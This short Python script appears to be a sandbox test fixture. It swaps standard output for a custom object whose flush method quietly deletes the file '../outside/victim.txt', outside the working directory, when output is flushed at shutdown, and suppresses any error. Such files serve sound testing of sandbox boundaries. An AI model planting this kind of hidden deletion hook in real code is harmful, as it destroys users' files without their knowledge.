# Standard output is flushed at the very end, into an own object.
# damage: deleted
import posix
import sys


class Output:
    closed = False

    def write(self, text):
        return len(text)

    def flush(self, unlink=posix.unlink):
        try:
            unlink("../outside/victim.txt")
        except OSError:
            pass


sys.stdout = Output()
